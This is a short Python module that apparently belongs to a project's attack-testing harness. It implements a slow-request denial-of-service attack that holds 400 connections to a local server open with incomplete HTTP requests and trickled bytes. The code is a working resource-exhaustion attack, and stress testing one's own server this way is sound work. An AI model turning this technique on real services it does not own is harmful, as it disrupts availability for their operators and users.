"""Requests that never end: half a head, half a body, a letter now and then."""

from __future__ import annotations

import asyncio
from typing import Final

from tools.attack.assault import Assault

NAME: Final = "half requests"
HALVES: Final = (
    b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ",
    b"POST /api/tables HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 16000\r\n\r\n{",
    b"GET /ws HTT",
    b"",
)


async def attack(a: Assault) -> None:
    """Four hundred connections from sixteen addresses."""

    async def dawdler(number: int) -> None:
        line = await a.connect(number % 16)
        try:
            await line.write(HALVES[number % len(HALVES)])
            while a.going:
                await asyncio.sleep(a.left(1.0))
                await line.write(b"x")
        finally:
            a.let_go(line)

    await a.crowd(400, dawdler, 0.5)
